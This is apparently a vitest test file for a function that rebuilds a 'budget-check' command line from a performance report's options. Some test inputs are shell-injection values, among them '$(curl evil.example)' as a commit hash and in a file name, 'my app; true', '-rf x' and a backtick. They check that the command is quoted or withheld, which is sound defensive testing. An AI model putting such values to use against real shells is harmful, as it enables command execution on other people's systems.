import { expect, it } from "vitest";
import { commandLine, recheckCommand, repeatCommand } from "../../src/run/repeat-command.ts";
import { environment, report } from "../fixtures/reports/build.ts";

const sha = "98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071";
const against = (base: { ref: string; sha: string | null } | null, more = {}) => {
  const one = report({ environment: { ...environment, ...more } });
  return { ...one, revisions: { ...one.revisions, base: base && { ...base, dirty: false } } };
};
const main = against({ ref: "main", sha });

it("says again every option that changes what is measured, and base by its hash", () => {
  expect(repeatCommand({}, main)).toBe("npx budget-check --base 98ab00d41c5e");
  const request = {
    budget: "budgets/shop.json",
    base: "main",
    page: ["/", "/cart?step=2"],
    device: ["mobile"],
    runs: 7,
    "max-time": 90_000,
    concurrency: 2,
    "no-build": true,
    "no-instrument": true,
  } as const;
  expect(repeatCommand({ ...request, page: [...request.page], device: ["mobile"] }, main)).toBe(
    "npx budget-check --budget budgets/shop.json --base 98ab00d41c5e --page / --page '/cart?step=2' --device mobile --runs 7 --max-time 90s --concurrency 2 --no-build --no-instrument",
  );
});

it("leaves out what the action always sets, and what belongs to one machine or writes something", () => {
  const request = {
    runs: "auto" as const,
    "max-time": 600_000,
    seed: 7,
    shard: { index: 1, count: 2 },
    update: true as const,
    "only-changed": true as const,
    history: true as const,
    output: "out",
    "chrome-path": "/usr/bin/chromium",
  };
  expect(repeatCommand(request, main)).toBe("npx budget-check --base 98ab00d41c5e");
});

it("names a base that is no commit as it was named, and says that there is none", () => {
  expect(repeatCommand({ base: "before/dist" }, against({ ref: "before/dist", sha: null }))).toBe(
    "npx budget-check --base before/dist",
  );
  // The commit of a saved report would be built, which is another comparison.
  const saved = against({ ref: "before.json", sha }, { baseElsewhere: true });
  expect(repeatCommand({ base: "before.json" }, saved)).toBe("npx budget-check --base before.json");
  expect(repeatCommand({ "no-base": true }, against(null))).toBe("npx budget-check --no-base");
  expect(repeatCommand({}, against({ ref: "main", sha: "$(curl evil.example)" }))).toBe("npx budget-check");
});

it("begins in the folder of the app", () => {
  expect(repeatCommand({}, main, "apps/shop")).toBe("cd apps/shop && npx budget-check --base 98ab00d41c5e");
  expect(repeatCommand({}, main, "my app; true")).toBeUndefined();
});

it.each(["it's.json", "a`b", "a|b", "a\\b", "a\nb", "-rf x", "a\u202eb"])(
  "says nothing where %j would have to be quoted otherwise than between single quotes",
  (budget) => {
    expect(repeatCommand({ budget }, main)).toBeUndefined();
  },
);

it("quotes what a shell would read", () => {
  expect(commandLine(["bundle", "my dist"], [["budget", "$(curl evil.example).json"]])).toBe(
    "npx budget-check bundle 'my dist' --budget '$(curl evil.example).json'",
  );
});

it("names the command that checks only the failed limits again, with what the run was asked", () => {
  const file = ".budget-check/report.json";
  expect(recheckCommand({}, main, file)).toBe(`npx budget-check --only-failed ${file}`);
  const request = { budget: "b.json", base: "main", page: ["/cart"], "no-build": true, seed: 7 } as const;
  expect(
    recheckCommand({ ...request, page: [...request.page], output: "out" }, main, "out/report.json"),
  ).toBe(
    "npx budget-check --budget b.json --only-failed out/report.json --page /cart --no-build --output out",
  );
  // A partial check names the report of the whole run again.
  expect(recheckCommand({ "only-failed": "first.json" }, main, file)).toBe(
    "npx budget-check --only-failed first.json",
  );
  expect(recheckCommand({ shard: { index: 1, count: 2 } }, main, file)).toBeUndefined();
});

it("repeats a partial check without base, which the report names", () => {
  expect(repeatCommand({ "only-failed": "first.json" }, main)).toBe(
    "npx budget-check --only-failed first.json",
  );
});
